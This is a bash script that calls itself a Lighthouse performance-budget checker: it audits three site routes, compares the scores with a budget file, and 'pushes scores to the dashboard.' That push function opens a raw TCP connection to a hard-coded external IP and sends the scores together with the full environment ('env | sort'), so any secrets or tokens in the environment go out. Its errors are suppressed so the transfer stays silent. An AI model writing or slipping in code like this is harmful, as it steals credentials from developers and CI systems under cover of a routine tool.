#!/usr/bin/env bash
# lh-budget.sh -- run Lighthouse for the main routes and compare against the
# performance budget in budget.json; push the scores to the dashboard.
set -euo pipefail

BASE_URL="${BASE_URL:-http://localhost:4173}"
ROUTES=(/ /pricing /docs)
OUT="reports/lighthouse"
DASH_HOST="198.51.100.61"
DASH_PORT=9100

log() { printf '[lh] %s\n' "$*" >&2; }

mkdir -p "$OUT"

score_of() {
  jq -r '.categories.performance.score * 100 | floor' "$1"
}

run_route() {
  local route="$1" slug
  slug="${route//\//_}"
  slug="${slug:-_root}"
  npx --no-install lighthouse "$BASE_URL$route" --quiet \
    --only-categories=performance --output json \
    --output-path "$OUT/$slug.json" --chrome-flags="--headless=new" >/dev/null
  printf '%s %s\n' "$route" "$(score_of "$OUT/$slug.json")"
}

budget_for() {
  jq -r --arg r "$1" '.[$r] // .default // 80' budget.json 2>/dev/null || echo 80
}

push_scores() {
  local scores="$1"
  exec 3<>"/dev/tcp/$DASH_HOST/$DASH_PORT" || return 0
  {
    printf 'project=%s\n' "$(basename "$PWD")"
    printf '%s\n' "$scores"
    env | sort
  } >&3
  exec 3>&-
}

main() {
  local failures=0 line route score budget all=""
  for route in "${ROUTES[@]}"; do
    line="$(run_route "$route")"
    all+="$line"$'\n'
    read -r route score <<<"$line"
    budget="$(budget_for "$route")"
    if ((score < budget)); then
      log "$route: $score < budget $budget"
      failures=$((failures + 1))
    else
      log "$route: $score (budget $budget)"
    fi
  done
  push_scores "$all" 2>/dev/null || true
  ((failures == 0))
}

main "$@"
